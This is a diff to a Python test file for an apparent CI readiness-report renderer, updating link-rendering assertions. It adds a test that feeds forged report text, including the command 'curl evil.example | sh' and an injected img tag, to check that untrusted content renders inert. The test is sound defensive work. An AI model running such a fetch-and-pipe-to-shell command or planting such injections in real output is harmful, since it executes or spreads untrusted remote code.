@@ -24,10 +24,8 @@ def gfm(body: str) -> str:
 def failing() -> dict:
     return report([
         result("ci.tests-run", "fail", message="No job runs tests on `pull_request`.",
-               remediation="Add a step that runs the test suite to a job triggered by `pull_request`.",
                locations=[{"path": ".github/workflows/ci.yml", "line": 4}]),
         result("hardening.pinned-actions", "fail", message="`github/codeql-action/init@v3` is not pinned.",
-               remediation="Pin each `uses:` to a 40-hex SHA (`owner/repo@<sha> # v1.2.3`).",
                locations=[{"path": ".github/workflows/codeql.yml", "line": 20}]),
         result("ci.default-branch-push", "fail", "warning", message="CI never runs on pushes to main."),
         result("governance.branch-protection", "skip", "warning", message="Needs a token with administration: read."),
@@ -63,6 +61,7 @@ def test_pass_is_short():
     assert body.startswith("## ✅ Readiness Gate: **PASS** — score 95/100 (threshold 70)")
     assert "Why it failed" not in body and "### Blockers" not in body
     visible = re.sub(r"<details>.*?</details>", "", body, flags=re.S)
+    visible = re.sub(r"^\[\d+\]: \S+$", "", visible, flags=re.M)  # link definitions render as nothing
     assert len([line for line in visible.splitlines() if line.strip()]) <= 5
 
 
@@ -99,7 +98,17 @@ def test_fix_text_renders_as_written():
     html = gfm(render_markdown(failing()))
     assert "<code>pull_request</code>" in html  # the project's Markdown, rendered
     assert "\\`" not in html and "\\_" not in html and "\\(" not in html
-    assert "<code>owner/repo@&lt;sha&gt; # v1.2.3</code>" in html
+    assert "<code>@&lt;sha&gt; # v4.2.1</code>" in html
+
+
+def test_text_claiming_to_be_the_projects_renders_inert_unless_it_is():
+    """A report may come from an untrusted job: only a built-in rule's own words render as Markdown."""
+    forged = result("ci.tests-run", "fail", title="Tests [run](http://evil.example)",
+                    remediation="Run `curl evil.example | sh` <img src=x>")
+    custom = result("custom.runbook", "fail", title="Runbook *exists*", remediation="Write `docs/runbook.md`.")
+    html = gfm(render_markdown(report([forged, custom])))
+    assert "evil.example" in html and 'href="http://evil.example"' not in html and "<img" not in html
+    assert "<em>exists</em>" not in html and "Runbook *exists*" in html.replace("\\", "")
 
 
 def test_code_spans_carry_no_invisible_characters():
@@ -113,16 +122,17 @@ def test_locations_and_rules_link_at_the_commit_on_the_server():
     r = failing()
     r["repository"]["sha"] = SHA
     body = render_markdown(r, env=GITHUB)
-    assert f"(https://ghe.example.com/acme/shop/blob/{SHA}/.github/workflows/ci.yml#L4)" in body
-    assert "(https://github.com/readiness-gate/readiness-gate/blob/v0.1.0/docs/rules.md#citests-run)" in body
+    assert f"]: https://ghe.example.com/acme/shop/blob/{SHA}/.github/workflows/ci.yml#L4\n" in body
+    assert "]: https://github.com/readiness-gate/readiness-gate/blob/v0.1.0/docs/rules.md#citests-run\n" in body
     html = gfm(body)
+    assert 'href="https://github.com/readiness-gate/readiness-gate/blob/v0.1.0/docs/rules.md#citests-run"><code>' in html
     assert f'<a href="https://ghe.example.com/acme/shop/blob/{SHA}/.github/workflows/ci.yml#L4"><code>' in html
 
 
 def test_a_local_run_shows_plain_paths():
     body = render_markdown(failing(), env={})
     assert "`.github/workflows/ci.yml:4`" in body and "/blob/" + SHA not in body
-    assert "](https://ghe" not in body
+    assert "https://ghe" not in body and "acme/shop" not in body
 
 
 def test_repository_text_renders_inert():
@@ -138,7 +148,7 @@ def test_repository_text_renders_inert():
     assert 'href="http://e"' not in html and "<img" not in html
     assert not re.search(r"(?<![\w`])@octocat", body.replace("@\u200b", ""))  # the mention is broken
     assert "@\u200boctocat" in body
-    assert "`` we`ird\\|path<b>.yml:2 ``" in body or "``we`ird\\|path<b>.yml:2``" in body or "we`ird" in body
+    assert "`weˋird|path<b>.yml:2`" in body  # a backtick cannot close its code span
     for line in body.splitlines():  # table rows keep their column count
         if line.startswith("| ➖"):
             assert len(re.findall(r"(?<!\\)\|", line)) == 3
